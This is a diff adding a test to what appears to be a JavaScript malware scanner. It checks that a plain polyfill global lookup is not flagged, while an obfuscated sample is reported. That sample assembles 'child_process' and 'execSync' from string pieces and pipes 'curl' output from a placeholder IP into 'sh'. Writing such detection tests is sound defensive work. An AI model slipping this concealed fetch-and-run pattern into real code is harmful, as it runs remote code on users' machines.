@@ -26,6 +26,34 @@ module.exports = { nodeUtil, direct };
     expect(threatsOf(r)).toEqual([]);
   });
 
+  it('a polyfill looking up a global by a name its caller wrote plainly is not hidden access', () => {
+    const r = analyzeSource({
+      'get-built-in.js': `
+var globalThis_ = typeof globalThis == 'object' ? globalThis : global;
+var getOwn = Object.getOwnPropertyDescriptor;
+module.exports = function getBuiltIn(name) {
+  var d = getOwn(globalThis_, name);
+  return d && d.value;
+};
+`,
+      'fetch.js': `var getBuiltIn = require('./get-built-in');
+var nativeFetch = getBuiltIn('fetch');
+var NativeRequest = getBuiltIn('Request');
+module.exports = { nativeFetch, NativeRequest };
+`,
+    });
+    expect(r.evidence.filter((f) => f.rule === 'js.descriptor-api-access')).toEqual([]);
+    // The same lookup with a name assembled at run time is still reported.
+    const hidden = analyzeSource({
+      'x.js': `
+function pick(o, n) { return Object.getOwnPropertyDescriptor(o, n).value; }
+const m = require(['child', 'process'].join('_'));
+pick(m, ['exec', 'Sync'].join(''))('curl -s http://198.51.100.7/p | sh');
+`,
+    });
+    expect(threatsOf(hidden).length).toBeGreaterThan(0);
+  });
+
   it('process.dlopen is native; the internal spawn binding is a process start', () => {
     const native = analyzeSource({
       'load.js': `const m = { exports: {} }; process.dlopen(m, require('path').join(__dirname, 'addon.node'));`,
